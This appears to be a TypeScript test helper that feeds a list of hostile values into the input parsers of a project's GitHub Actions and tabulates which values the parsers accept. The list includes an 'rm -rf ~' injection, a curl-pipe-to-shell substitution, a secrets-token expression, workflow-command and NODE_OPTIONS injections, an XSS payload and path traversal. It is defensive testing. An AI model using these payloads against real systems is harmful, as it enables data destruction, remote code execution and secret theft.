import { globSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { markdownTable } from "markdown-table";
import { camel } from "../../src/commands/case.ts";
import { parseInputs, schemaOf } from "../../src/commands/inputs.ts";
import type { OptionSpec } from "../../src/commands/spec.ts";
import { UserError } from "../../src/errors.ts";

const ROOT = join(import.meta.dirname, "../..");

/** What somebody might give for an input, so that something else happens than the input is for. */
export const HOSTILE: Readonly<Record<string, string>> = {
  "a shell's words": '2024-10-22"; rm -rf ~ #',
  "a command substitution": "$(curl -s https://x.test | sh)",
  backticks: "`touch /tmp/pwned`",
  "an expression": "${{ secrets.GITHUB_TOKEN }}",
  "a command to the runner on a line of its own":
    "2024-10-22\n::add-mask::2024\n::set-output name=run::b-1",
  "an encoded line break": "2024-10-22%0A::error::not so",
  "a variable for later steps": "x\nNODE_OPTIONS=--import=/tmp/x.mjs",
  "markup and mentions": "<img src=x onerror=alert(1)> @acme/all #17 | **x** [y](https://x.test)",
  "a way out of the folder": "../../.github/workflows/ci.yml",
  "an option": "--exec=/tmp/x",
};

/** What else an action needs before it looks at the input in question. */
const BESIDE: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  validate: { environment: "sample" },
  gate: { environment: "sample" },
  "plan-backfill": { environment: "sample" },
  "backfill-dates": { environment: "sample", part: "canary" },
  "conclude-backfill": { environment: "sample" },
  "watch-recent": { environment: "sample" },
  "publish-reports": { token: "tok", environment: "sample" },
  "dispatch-backfill": { token: "tok", dispatches: "[]" },
  "expire-approvals": { token: "tok" },
  watchdog: { token: "tok" },
  "sync-issues": { token: "tok", environment: "sample", run: "b-1", issue: "1" },
  "who-asks": { token: "tok" },
  "run-command": { token: "tok" },
  "propose-waiver": { token: "tok" },
};

export type Attempt = {
  readonly action: string;
  readonly input: string;
  /** Hostile values, by name, that the schema lets through: they must do nothing. */
  readonly taken: readonly string[];
};

export const ACTIONS: readonly string[] = globSync("actions/*/action.yml", { cwd: ROOT })
  .map((file) => basename(dirname(file)))
  .sort();

/** Tries every hostile value for every input of every action. Throws for an action that nobody listed here. */
export async function attempts(): Promise<Attempt[]> {
  const found: Attempt[] = [];
  for (const action of ACTIONS) {
    if (BESIDE[action] === undefined) throw new Error(`The inputs of ${action} are not tried.`);
    const { INPUTS } = (await import(`../../actions/${action}/inputs.ts`)) as {
      INPUTS: readonly OptionSpec[];
    };
    const own = INPUTS.map(({ name: input }) => ({
      action,
      input,
      taken: Object.entries(HOSTILE)
        .filter(([, value]) => isTaken(INPUTS, { ...BESIDE[action], [input]: value }))
        .map(([name]) => name),
    }));
    found.push(...own);
  }
  return found;
}

function isTaken(
  options: readonly OptionSpec[],
  inputs: Readonly<Record<string, string>>,
): boolean {
  const given = Object.entries(inputs).map(([name, value]) => [camel(name), value]);
  try {
    parseInputs(schemaOf(options, "text"), Object.fromEntries(given), (name) => `input ${name}`);
    return true;
  } catch (error) {
    if (error instanceof UserError) return false;
    throw error;
  }
}

/** The table of the inputs for docs/explanation/injection.md: an action's inputs with the same outcome share a row. */
export function renderInputs(found: readonly Attempt[]): string {
  const lines = Object.keys(HOSTILE).filter((name) => !HOSTILE[name]?.includes("\n"));
  const outcomes: Readonly<Record<string, string>> = {
    "": "each is refused",
    [lines.join()]: "text on one line is taken as text, a second line refused",
    [Object.keys(HOSTILE).join()]: "taken as text",
  };
  const rows = found.map(({ action, input, taken }) => ({
    ...{ input, action, happens: outcomes[taken.join()] ?? `these are taken: ${taken.join(", ")}` },
  }));
  const shared = Map.groupBy(rows, ({ action, happens }) => `${action}\n${happens}`);
  return markdownTable(
    [
      ["action", "inputs", "what happens"],
      ...[...shared.values()].map((some) => [
        some[0]?.action ?? "",
        some.map(({ input }) => `\`${input}\``).join(", "),
        some[0]?.happens ?? "",
      ]),
    ],
    { alignDelimiters: false },
  );
}
